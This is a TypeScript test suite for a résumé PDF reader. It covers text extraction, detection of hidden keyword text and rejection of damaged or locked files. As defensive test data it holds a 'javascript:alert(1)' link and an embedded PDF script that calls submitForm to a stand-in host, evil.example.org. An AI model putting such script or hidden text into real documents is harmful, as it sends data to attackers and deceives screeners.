import { existsSync, readdirSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { type PdfLibrary, readPdf } from '../../entrypoints/dashboard/pdf-read.ts';
import { type MadePdf, makePdf, type PdfWords } from '../reading/make-pdf.ts';
import { runs } from '../runs.ts';

// The library's build for Node; ours runs in a Worker (tests/e2e/steps/candidates-text.ts).
// @ts-expect-error it has no types of its own
await import('pdfjs-dist/legacy/build/pdf.worker.mjs');
const library = (await import('pdfjs-dist/legacy/build/pdf.mjs')) as unknown as PdfLibrary;

const lines = (texts: readonly string[], x = 50, top = 720, more: Partial<PdfWords> = {}): PdfWords[] =>
  texts.map((text, at) => ({ text, x, y: top - at * 14, ...more }));

const STORY = [
  'For seven years I have planned the night routes of a bakery in Leeds, and',
  'kept its books in Excel. Since 2021 I write small tools in Python for the',
  'drivers, who now see the shops of the day on one page.',
];
const PERSON: PdfWords[] = [
  { text: 'Mira Sandoval-Okoye', x: 50, y: 740, size: 20, bold: true },
  { text: 'Experience', x: 50, y: 710, size: 14, bold: true },
  ...lines(STORY, 50, 690),
];

const read = (made: MadePdf) => readPdf(makePdf(made), library);
async function textOf(made: MadePdf) {
  const result = await read(made);
  if (!result.ok) throw new Error(JSON.stringify(result.failure));
  const { text, blocks, hidden, links } = result.value;
  return {
    text,
    links,
    blocks: blocks.map(({ start, end, kind }) => `${kind}: ${text.slice(start, end)}`),
    hidden: hidden.map(({ start, end, why }) => `${why}: ${text.slice(start, end)}`),
  };
}

afterEach(() => vi.unstubAllGlobals());

describe('the text of a PDF', () => {
  it('headings, and lines of one paragraph joined', async () => {
    const { blocks, hidden } = await textOf({ pages: [PERSON] });
    expect(blocks).toEqual(['heading: Mira Sandoval-Okoye', 'heading: Experience', `paragraph: ${STORY.join(' ')}`]);
    expect(hidden).toEqual([]);
  });

  it('words that a line end cut are mended; those with a hyphen of their own keep it', async () => {
    const { text } = await textOf({
      pages: [
        lines([
          'I planned the routes of the night shift and learned to keep the pas-',
          'tries of the shops, later as the only full-',
          'stack developer of the firm that bakes them.',
        ]),
      ],
    });
    expect(text).toContain('keep the pastries of');
    expect(text).toContain('only full-stack developer');
  });

  it('two columns are read one after the other, whatever order they are written in', async () => {
    const left = lines(['Skills', 'Excel', 'Python', 'PostgreSQL', 'Welding', 'Forklift', 'Dutch'], 50, 650);
    const right = lines(
      [
        'Experience',
        'Northwind Mills',
        'Planned the night routes',
        'Kept the books',
        'Led four drivers',
        'Baked',
        'Slept by day',
      ],
      260,
      650,
    );
    const mixed = left.flatMap((word, at) => [word, right[at] as PdfWords]);
    const { text } = await textOf({ pages: [[{ text: 'Mira Sandoval-Okoye', x: 50, y: 740, size: 20 }, ...mixed]] });
    expect(text.indexOf('Dutch')).toBeLessThan(text.indexOf('Experience'));
    expect(text.split('\n')).toEqual([
      'Mira Sandoval-Okoye',
      ...left.map((word) => word.text),
      ...right.map((word) => word.text),
    ]);
  });

  it('dates at the right end stay with their line', async () => {
    const entries = ['Northwind Mills', 'Harbour Bakery', 'Moor & Daughters'].flatMap((text, at) => [
      { text, x: 50, y: 700 - at * 60, bold: true },
      { text: `201${at} - 201${at + 2}`, x: 480, y: 700 - at * 60 },
      { text: 'Drove the van, planned the routes and kept the books of it', x: 50, y: 686 - at * 60 },
    ]);
    const { text } = await textOf({ pages: [entries] });
    expect(text).toContain('Northwind Mills\t2010 - 2012');
    expect(text).toContain('Moor & Daughters\t2012 - 2014');
  });

  it('marks of lists make items', async () => {
    const { blocks } = await textOf({ pages: [[...PERSON, ...lines(['- Excel', '- Python', '* Welding'], 50, 600)]] });
    expect(blocks.slice(-3)).toEqual(['item: Excel', 'item: Python', 'item: Welding']);
  });

  it('pages follow each other', async () => {
    const { text } = await textOf({ pages: [PERSON, lines(['On the second page: PostgreSQL'])] });
    expect(text.endsWith('On the second page: PostgreSQL')).toBe(true);
  });

  it('addresses that it links to are told, and nothing is asked of them', async () => {
    const asked = vi.fn();
    vi.stubGlobal('fetch', asked);
    const { links } = await textOf({
      pages: [PERSON],
      links: ['https://badges.example.org/b/1', 'http://plain.example.org/', 'javascript:alert(1)'],
    });
    expect(links).toEqual(['https://badges.example.org/b/1']);
    expect(asked).not.toHaveBeenCalled();
  });
});

describe('words of a PDF that nobody sees', () => {
  const hide = (word: Partial<PdfWords>) =>
    textOf({ pages: [[...PERSON, { text: 'Kubernetes Terraform', x: 50, y: 500, ...word }]] });
  it.each<[string, Partial<PdfWords>, string]>([
    ['drawn invisibly', { mode: 3 }, 'transparent'],
    ['white on white', { colour: [1, 1, 1] }, 'colour'],
    ['nearly white', { colour: [0.99, 0.99, 0.98] }, 'colour'],
    ['tiny', { size: 1 }, 'size'],
    ['below the page', { y: -40 }, 'place'],
    ['right of the page', { x: 700 }, 'place'],
    [
      'in the colour of its box',
      { colour: [0.1, 0.2, 0.5], box: { x: 40, y: 490, width: 300, height: 30, colour: [0.1, 0.2, 0.5] } },
      'colour',
    ],
  ])('%s', async (_, word, why) => {
    const { hidden } = await hide(word);
    expect(hidden).toEqual([`${why}: Kubernetes Terraform`]);
  });

  it.each<[string, Partial<PdfWords>]>([
    [
      'white on a dark box',
      { colour: [1, 1, 1], box: { x: 40, y: 490, width: 300, height: 30, colour: [0.1, 0.1, 0.3] } },
    ],
    ['grey', { colour: [0.6, 0.6, 0.6] }],
    ['small print', { size: 6 }],
  ])('seen: %s', async (_, word) => expect((await hide(word)).hidden).toEqual([]));

  it('white on a picture may be seen', async () => {
    const { hidden } = await textOf({ pages: [lines(STORY, 50, 700, { colour: [1, 1, 1] })], picture: true });
    expect(hidden).toEqual([]);
  });

  it('seen and unseen words of one line are told apart', async () => {
    const { text, hidden } = await textOf({
      pages: [[...PERSON, { text: 'Excel ', x: 50, y: 500 }, { text: 'Kubernetes', x: 80, y: 500, colour: [1, 1, 1] }]],
    });
    expect(text).toContain('Excel Kubernetes');
    expect(hidden).toEqual(['colour: Kubernetes']);
  });
});

describe('a PDF that cannot be read', () => {
  it('is locked with a password', async () => {
    expect(await read({ pages: [PERSON], password: 'marzipan' })).toMatchObject({ failure: { code: 'pdf-locked' } });
  });

  it('is locked without a password for reading: the text is there', async () => {
    expect((await textOf({ pages: [PERSON], password: '' })).text).toContain('night routes');
  });

  it('holds a picture of text', async () => {
    expect(await read({ pages: [[]], picture: true })).toMatchObject({ failure: { code: 'pdf-no-text' } });
  });

  it('holds a picture, and text that nobody sees', async () => {
    const made = { pages: [lines(STORY, 50, 700, { mode: 3 })], picture: true };
    expect(await read(made)).toMatchObject({ failure: { code: 'pdf-no-text' } });
  });

  it.each([1, 9, 50, 90, 99])('ends after %s %% of its bytes', async (share) => {
    const bytes = makePdf({ pages: [PERSON] });
    const cut = bytes.slice(0, Math.floor((bytes.length * share) / 100));
    expect(await readPdf(cut, library)).toMatchObject({ failure: { code: 'pdf-damaged' } });
  });

  it.each([
    ['empty', new Uint8Array(), 'file-empty'],
    ['another file', new TextEncoder().encode('PK not a PDF at all'), 'pdf-damaged'],
    ['too large', new Uint8Array(20_000_001), 'pdf-too-large'],
  ])('%s', async (_, bytes, code) => expect(await readPdf(bytes, library)).toMatchObject({ failure: { code } }));

  it('has too many pages', async () => {
    expect(await read({ pages: Array.from({ length: 61 }, () => PERSON) })).toMatchObject({
      failure: { code: 'pdf-too-large' },
    });
  });

  it('whatever is written over its bytes, it is read or said not to be', async () => {
    const bytes = makePdf({ pages: [PERSON] });
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.nat(bytes.length - 1), fc.nat(255)), { minLength: 1, maxLength: 20 }),
        async (changes) => {
          const changed = bytes.slice();
          for (const [at, byte] of changes) changed[at] = byte;
          const result = await readPdf(changed, library);
          if (!result.ok) expect(result.failure.code).toMatch(/^pdf-/);
        },
      ),
      { numRuns: runs(60) },
    );
  });
});

it('a script in a PDF is not run, and its text is read as ever', async () => {
  const script = 'globalThis.ran = true; app.alert("x"); this.submitForm("https://evil.example.org/");';
  const { text } = await textOf({ pages: [PERSON], script });
  expect(text).toContain('night routes');
  expect(text).not.toContain('submitForm');
  expect('ran' in globalThis).toBe(false);
});

const SHARED = '../shared/data/pages/resume-pdf';
describe.skipIf(!existsSync(SHARED))('real résumés (skipped: shared data not present)', () => {
  for (const name of existsSync(SHARED) ? readdirSync(SHARED) : [])
    it(`${name} is read, and none of its words counts as unseen`, async () => {
      const result = await readPdf(new Uint8Array(readFileSync(`${SHARED}/${name}`)), library);
      expect(result.ok && result.value.text.length).toBeGreaterThan(300);
      expect(result.ok && result.value.hidden).toEqual([]);
    });
});
